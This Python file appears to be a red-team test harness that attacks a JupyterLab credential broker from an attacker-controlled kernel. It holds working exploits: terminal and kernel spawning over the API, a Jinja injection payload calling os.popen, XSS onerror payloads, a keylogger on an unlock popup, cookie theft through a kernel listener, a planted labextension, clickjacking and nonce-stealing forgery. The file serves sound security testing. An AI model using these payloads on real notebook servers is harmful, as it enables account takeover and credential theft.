"""Output JavaScript of a real kernel, in a real JupyterLab, in a real Chromium.

Each function is one row: it returns what was got, in the words that `judge.py` reads. In the
control level the server's pages are without their headers and checks.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jlab
import nbformat
from channel import Got
from jupyter_process import LOADED, TOKEN
from playwright.sync_api import Browser, BrowserContext, Page
from playwright.sync_api import Error as BrowserError
from victim import World

_SHOW = """
from IPython.display import Javascript, display
display(Javascript({script!r}))
"""
_SCRIPT = """
window.red = undefined;
(async () => {{ const BASE = {base!r};
const XSRF = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
const post = (path, body) => fetch(BASE + path, {{method: 'POST', credentials: 'include',
    headers: {{'X-XSRFToken': XSRF, 'Content-Type': 'application/json'}},
    body: JSON.stringify(body)}});
const sleep = ms => new Promise(done => setTimeout(done, ms));
{body} }})().then(value => window.red = 'got ' + value, error => window.red = 'raised ' + error)
"""


class _Lab(jlab.Jupyter):
    def notebook_url(self, name: str) -> str:
        return f"{self.url}doc/tree/{name}?token={TOKEN}"


class Tab:
    """The person's open notebook, whose kernel is the attacker's."""

    def __init__(self, world: World, context: BrowserContext) -> None:
        self.world = world
        self.context = context
        self.server = _Lab(
            world.server.process,
            world.server.url,
            world.root,
            world.home,
            world.home / "server.log",
            "lab",
        )
        self.notebook = self.open("notes/page.ipynb")

    def open(self, name: str) -> jlab.Notebook:
        """Open a notebook in a tab of its own."""
        if not (self.world.root / name).exists():
            jlab.write_notebook(self.world.root / name, "")
        return jlab.Notebook.open(self.context, self.server, name)

    def script(self, body: str, seconds: float = 30) -> str:
        """Run a script as a cell's output; return what it gave or what stopped it."""
        text = _SCRIPT.format(base=self.world.server.base, body=body)
        self.notebook.run_code(_SHOW.format(script=text))
        return self.result(self.notebook.page, seconds)

    @staticmethod
    def result(page: Page, seconds: float = 30) -> str:
        """Return `window.red` of a page, once it is there."""
        with contextlib.suppress(BrowserError):
            page.wait_for_function("window.red !== undefined", timeout=seconds * 1000)
        said = str(page.evaluate("String(window.red)"))
        return said.removeprefix("got ")


def attack(tab: Tab, name: str, mark: Path) -> Got:
    """Run one row's script."""
    try:
        return Got(globals()[name](tab, mark) or "")
    except BrowserError as error:
        return Got(f"BrowserError: {error.message.splitlines()[0][:200]}", ("BrowserError",))


@contextlib.contextmanager
def tab(world: World, browser: Browser) -> Iterator[Tab]:
    """Open the person's browser on a notebook."""
    with browser.new_context() as context:
        yield Tab(world, context)


def _wait(mark: Path, seconds: float = 12) -> str:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not mark.exists():
        time.sleep(0.1)
    return ""


def _payload(tab: Tab, mark: Path) -> str:
    """Have the kernel write the payload into the project; return the command that runs it."""
    target = tab.world.target(mark)
    path = tab.world.root / "payload.py"
    tab.notebook.run_code(f"open({str(path)!r}, 'w').write({target['payload']!r})")
    return str(target["command"])


# What the server offers to its own page -------------------------------------------------------


def reveal(tab: Tab, mark: Path) -> str:
    """R73: whatever answers, with the person's cookie."""
    paths = [
        "valet/connections", "valet/unlock", "valet/done/x", "valet/connect/x", "valet/status",
        "valet/callback/canary?code=x&state=y", "api/status", "api/me", "api/kernels",
        "api/config/valet", "api/contents/..%2fstate%2fvault.db", "files/.hidden/secret.txt",
    ]  # fmt: skip
    return tab.script(
        f"let said = ''; for (const path of {json.dumps(paths)})"
        "  said += await (await fetch(BASE + path)).text().catch(String);"
        "return said"
    )


def terminal(tab: Tab, mark: Path) -> str:
    """R74."""
    command = _payload(tab, mark)
    said = tab.script(
        "const made = await post('api/terminals', {});"
        "if (!made.ok) return 'api/terminals: ' + made.status;"
        "const shell = new WebSocket('ws://' + location.host + BASE +"
        "  'terminals/websocket/' + (await made.json()).name);"
        "await new Promise(done => shell.onopen = done); await sleep(500);"
        f"shell.send(JSON.stringify(['stdin', {json.dumps(command)} + '\\r']));"
        "await sleep(2000); return 'sent'"
    )
    return said + _wait(mark, 12 if "sent" in said else 1)


def kernel(tab: Tab, mark: Path) -> str:
    """R75: a kernel that is hoped to be less confined."""
    code = json.dumps(tab.world.target(mark)["payload"])
    said = tab.script(
        "const made = await post('api/kernels', {name: 'python3'});"
        "if (!made.ok) return 'api/kernels: ' + made.status;"
        "const id = (await made.json()).id;"
        "const kernel = new WebSocket("
        "  'ws://' + location.host + BASE + `api/kernels/${id}/channels`);"
        "await new Promise(done => kernel.onopen = done);"
        "kernel.send(JSON.stringify({channel: 'shell', header: {msg_id: 'red', username: 'red',"
        "  session: 'red', msg_type: 'execute_request', version: '5.3', date: '2026-01-01'},"
        "  parent_header: {}, metadata: {}, content: {code: " + code + ", silent: false,"
        "  store_history: false, user_expressions: {}, allow_stdin: false}}));"
        "await sleep(6000); await fetch(BASE + 'api/kernels/' + id, {method: 'DELETE',"
        "  headers: {'X-XSRFToken': XSRF}}); return 'sent'"
    )
    return said + _wait(mark, 3)


def template(tab: Tab, mark: Path) -> str:
    """R90."""
    command = _payload(tab, mark)
    text = '{{ cycler.__init__.__globals__.os.popen("' + command + '").read() }}'
    folder = tab.world.root / "lab"
    tab.notebook.run_code(
        f"import os; os.makedirs({str(folder)!r}, exist_ok=True);"
        f"open({str(folder / 'index.html.j2')!r}, 'w').write({text!r})"
    )
    said = tab.script(
        "return String((await fetch(BASE + 'nbconvert/html/plain.ipynb')).status)", 60
    )
    return f"nbconvert: {said}" + _wait(mark, 2)


def extension_manager(tab: Tab, mark: Path) -> str:
    """R91."""
    payload = tab.world.target(mark)["payload"]
    path = tab.world.root / "pip.py"
    tab.notebook.run_code(f"open({str(path)!r}, 'w').write({payload!r})")
    said = tab.script(
        "const made = await post('lab/api/extensions',"
        "  {cmd: 'install', extension_name: 'jupyterlab-vim', extension_version: '4.1.4'});"
        "return made.status + ' ' + (await made.text()).slice(0, 200)",
        60,
    )
    return said + _wait(mark, 3)


def settings(tab: Tab, mark: Path) -> str:
    """R92."""
    said = tab.script(
        "const put = await fetch(BASE +"
        "  'lab/api/settings/@jupyterlab/apputils-extension:sanitizer', {method: 'PUT',"
        "  headers: {'X-XSRFToken': XSRF}, body: JSON.stringify({raw: '{}'})});"
        "return put.status"
    )
    return f"CONTROL settings written: {said}" if said == "204" else said


def token(tab: Tab, mark: Path) -> str:
    """R79."""
    return tab.script(
        "const told = JSON.parse(document.getElementById('jupyter-config-data').textContent);"
        "return told.token ? 'CONTROL the page says the token' : 'no token in the page'"
    )


# The consent and unlock pages -----------------------------------------------------------------


_ASK = """
import json, os, urllib.request
def _ask(method, path, body=None):
    request = urllib.request.Request(os.environ["JUPYTER_VALET_URL"] + path,
        None if body is None else json.dumps(body).encode(),
        {"Authorization": "Bearer " + os.environ["JUPYTER_VALET_CAPABILITY"],
         "Content-Type": "application/json"}, method=method)
    return urllib.request.urlopen(request, timeout=60).read().decode()
"""


def _sign_in(tab: Tab) -> str:
    """Have the kernel ask for a further account; return the transaction's id."""
    wanted = {"provider": "canary", "scopes": [], "new_account": True}
    printed = tab.world.attacker.run(_ASK + f"print(_ask('POST', '/connect', {wanted!r}))")
    return str(json.loads(printed)["transaction"]["id"])


def _decided(tab: Tab, transaction: str, said: str) -> str:
    """Say whether the sign-in went on, by the broker's own word; then end it."""
    path = f"/transactions/{transaction}"
    printed = tab.world.attacker.run(_ASK + f"print(_ask('GET', {path!r}))")
    state = json.loads(printed)["state"]
    with contextlib.suppress(Exception):
        tab.world.attacker.run(_ASK + f"_ask('DELETE', {path + '?action=cancel'!r})")
    moved = state in ("at_provider", "done")
    return f"CONTROL the sign-in went on: {state}" if moved else f"still {state}; {said[:80]}"


_READ = """
let text = await (await fetch(BASE + PAGE)).text();
if (!text.includes('auth=')) {
    const frame = document.createElement('iframe'); frame.src = BASE + PAGE;
    document.body.append(frame); await sleep(1500);
    try { text += frame.contentDocument.documentElement.outerHTML } catch (error) {}
    const popup = window.open(BASE + PAGE); await sleep(1500);
    try { text += popup.document.documentElement.outerHTML } catch (error) {}
    try { popup.close() } catch (error) {}
}
const nonce = (text.match(/approve\\?auth=([\\w-]+)/) || [])[1];
if (!nonce) return 'no nonce';
await fetch(BASE + PAGE + '/approve?auth=' + nonce, {redirect: 'manual'});
const again = window.open(BASE + PAGE + '/approve?auth=' + nonce); await sleep(1000);
return 'tried with the nonce';
"""


def approve(tab: Tab, mark: Path) -> str:
    """R76: by fetch, frame or popup."""
    transaction = _sign_in(tab)
    said = tab.script(f"const PAGE = 'valet/connect/{transaction}';" + _READ, 40)
    return _decided(tab, transaction, said)


def keylogger(tab: Tab, mark: Path) -> str:
    """R77: keys that are typed into a window of the unlock page."""
    with tab.context.expect_page() as opened:
        tab.script("window.w = window.open(BASE + 'valet/unlock'); await sleep(1500); return 1")
    popup = opened.value
    popup.wait_for_load_state()
    said = tab.script(
        "window.keys = ''; try {"
        "  window.w.document.addEventListener('keydown', e => window.keys += e.key, true);"
        "  return 'hooked' } catch (error) { return error.name }"
    )
    popup.keyboard.type(tab.world.planted["typed"])
    keys = tab.notebook.page.evaluate("window.keys")
    popup.close()
    return f"{said} {keys}"


def framed_unlock(tab: Tab, mark: Path) -> str:
    """R78."""
    said = tab.script(
        "const frame = document.createElement('iframe'); frame.src = BASE + 'valet/unlock';"
        "document.body.append(frame); await sleep(1500);"
        "const text = frame.contentDocument?.body?.innerText || ''; frame.remove();"
        "return text"
    )
    return f"CONTROL the frame is open to us: {said}" if "vault" in said else said


class _Evil(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>another port</title><p>hello")

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextlib.contextmanager
def _other_port(tab: Tab) -> Iterator[Page]:
    """Open a page at another port of the same host: same site, another origin."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = tab.context.new_page()
    try:
        page.goto(f"http://127.0.0.1:{server.server_port}/")
        yield page
    finally:
        page.close()
        server.shutdown()
        server.server_close()


def cross_port_forgery(tab: Tab, mark: Path) -> str:
    """R85: a page at another port that even knows the nonce sends the browser to the press."""
    transaction = _sign_in(tab)
    path = f"valet/connect/{transaction}"
    shown = tab.world.server.get(path, LOADED).body
    found = re.search(r"approve\?auth=([\w-]+)", shown)
    url = f"{tab.world.server.url}{path}/approve?auth={found[1] if found else ''}"
    with _other_port(tab) as page:
        with contextlib.suppress(BrowserError):
            page.evaluate("url => fetch(url, {mode: 'no-cors', credentials: 'include'})", url)
        with contextlib.suppress(BrowserError):
            page.evaluate("url => { location = url }", url)
            page.wait_for_load_state()
        return _decided(tab, transaction, page.title())


def clickjacking(tab: Tab, mark: Path) -> str:
    """R86: from another port, and from an output."""
    transaction = _sign_in(tab)
    url = f"{tab.world.server.url}valet/connect/{transaction}"
    add = (
        "url => { const f = document.createElement('iframe'); f.src = url;"
        " document.body.append(f) }"
    )
    with _other_port(tab) as evil:
        found = 0
        for page in (evil, tab.notebook.page):
            page.evaluate(add, url)
            time.sleep(2)
            found += any(_has_button(frame) for frame in page.frames[1:])
    _decided(tab, transaction, "")
    return f"CONTROL the button is framed in {found} pages" if found else "nothing is framed"


def _has_button(frame: Any) -> bool:
    with contextlib.suppress(BrowserError):
        frame.locator("#approve").wait_for(state="attached", timeout=2000)
        return True
    return False


def cross_port_read(tab: Tab, mark: Path) -> str:
    """R87."""
    transaction = _sign_in(tab)
    url = f"{tab.world.server.url}valet/connect/{transaction}"
    read = """async url => {
        let said = '';
        try { said += await (await fetch(url, {credentials: 'include'})).text() }
        catch (error) { said += error }
        const popup = window.open(url); await new Promise(done => setTimeout(done, 1500));
        try { said += popup.document.body.innerText } catch (error) { said += error.name }
        return said }"""
    with _other_port(tab) as page:
        said = str(page.evaluate(read, url))
    _decided(tab, transaction, "")
    return "CONTROL the page was read" if "approve?auth=" in said else said


# The browser itself ---------------------------------------------------------------------------


_LISTEN = """
import socket, threading
_heard = []
_listener = socket.socket(); _listener.bind(("127.0.0.1", 0)); _listener.listen()
def _hear():
    while True:
        peer, _ = _listener.accept()
        _heard.append(peer.recv(9000).decode(errors="replace"))
        peer.sendall(b"HTTP/1.0 204 No Content\\r\\n\\r\\n"); peer.close()
threading.Thread(target=_hear, daemon=True).start()
print("port", _listener.getsockname()[1])
"""


def cookie_theft(tab: Tab, mark: Path) -> str:
    """R80: a picture from the kernel's own port brings the login cookie along."""
    said = tab.notebook.run_code(_LISTEN)
    found = re.search(r"port (\d+)", said)
    if not found:
        return said.splitlines()[-1] if said else "no port"
    tab.script(
        f"new Image().src = 'http://127.0.0.1:{found[1]}/x.png'; await sleep(1500); return 1"
    )
    heard = tab.notebook.run_code("print('|'.join(_heard))")
    cookie = re.search(r"^Cookie: (.+)$", heard, re.MULTILINE)
    if not cookie:
        return f"heard {heard[:100]}"
    answer = tab.world.server.get("api/me", {"Cookie": cookie[1]}, login=False)
    return f"CONTROL logged in with the cookie: {answer.status}" if answer.status == 200 else "no"


def stored_script(tab: Tab, mark: Path) -> str:
    """R81: an output that was stored, in a notebook that the attacker signed."""
    output = nbformat.v4.new_output(
        "display_data", {"text/html": "<img src=x onerror=\"window.red='CONTROL stored'\">"}
    )
    cell = nbformat.v4.new_code_cell("1", outputs=[output])
    notebook = nbformat.v4.new_notebook(
        cells=[cell], metadata={"kernelspec": {"name": "python3", "display_name": "p"}}
    )
    text = nbformat.writes(notebook)
    path, data = tab.world.root / "notes" / "stored.ipynb", str(tab.world.home / "data")
    said = tab.world.attacker.run(
        f"open({str(path)!r}, 'w').write({text!r})\n"
        f"open({data + '/notebook_secret'!r}, 'rb').read()\n"
        "import nbformat; from nbformat.sign import NotebookNotary\n"
        f"NotebookNotary(data_dir={data!r}).sign(nbformat.read({str(path)!r}, 4)); print('signed')"
    )
    opened = tab.open("notes/stored.ipynb")
    seen = tab.result(opened.page, 4)
    opened.page.close()
    return seen if "CONTROL" in seen else f"{said[:100]}; {seen}"


def markdown_script(tab: Tab, mark: Path) -> str:
    """R82; its control is the same text as an output."""
    hostile = (
        "<script>window.red='CONTROL ran'</script><img src=x onerror=\"window.red='CONTROL ran'\">"
    )
    if tab.world.level.straw:
        tab.notebook.page.evaluate("window.red = undefined")
        tab.notebook.run_code(
            f"from IPython.display import HTML, display\ndisplay(HTML({hostile!r}))"
        )
        return tab.result(tab.notebook.page, 5)
    cells = [nbformat.v4.new_markdown_cell(hostile), nbformat.v4.new_code_cell("1")]
    notebook = nbformat.v4.new_notebook(
        cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "p"}}
    )
    nbformat.write(notebook, tab.world.root / "notes" / "markdown.ipynb")
    opened = tab.open("notes/markdown.ipynb")
    seen = tab.result(opened.page, 4)
    opened.page.close()
    return seen


def labextension(tab: Tab, mark: Path) -> str:
    """R83: at the next load of the page."""
    folder = tab.world.home / "data" / "labextensions" / "evil"
    build = {"load": "static/remoteEntry.js", "extension": "./extension"}
    package = {"name": "evil", "version": "1.0.0", "jupyterlab": {"_build": build}}
    said = tab.world.attacker.run(
        f"import os; os.makedirs({str(folder / 'static')!r}, exist_ok=True)\n"
        f"open({str(folder / 'package.json')!r}, 'w').write({json.dumps(package)!r})\n"
        f"open({str(folder / 'static' / 'remoteEntry.js')!r}, 'w')"
        ".write(\"window.red = 'CONTROL labextension'\"); print('planted')"
    )
    page = tab.context.new_page()
    page.goto(f"{tab.world.server.url}lab?token={TOKEN}")
    seen = tab.result(page, 10)
    page.close()
    return seen if "CONTROL" in seen else f"{said[:100]}; {seen}"


def service_worker(tab: Tab, mark: Path) -> str:
    """R84; its control is the worker in its own folder."""
    (tab.world.root / "sw.js").write_text("self.addEventListener('fetch', () => {})")
    scopes = ["''"] if tab.world.level.straw else ["BASE", "BASE + 'valet/'"]
    tries = "".join(
        "try { await navigator.serviceWorker.register(BASE + 'files/sw.js'"
        + ("" if scope == "''" else f", {{scope: {scope}}}")
        + "); said += 'CONTROL registered' } catch (error) { said += error.name }"
        for scope in scopes
    )
    return tab.script(f"let said = ''; {tries} return said")


def widget(tab: Tab, mark: Path) -> str:
    """R88."""
    tab.notebook.page.evaluate("window.red = undefined")
    tab.notebook.run_code(
        "import ipywidgets; from IPython.display import display\n"
        "display(ipywidgets.HTML(value=\"<img src=x onerror='window.red=`CONTROL widget`'>\"))"
    )
    return tab.result(tab.notebook.page, 8)


def saved_notebook(tab: Tab, mark: Path) -> str:
    """R89: what a session with connections leaves in the file."""
    if tab.world.level.straw:
        tab.notebook.run_code(f"print(open({str(tab.world.home / 'straw.log')!r}).read())")
        return tab.notebook.saved()
    tab.notebook.run_code("%load_ext jupyter_valet")
    for line in ("%connections", "%valet", "%connect canary", "tools"):
        tab.notebook.run_code(line)
    return "the file says: " + tab.notebook.saved()
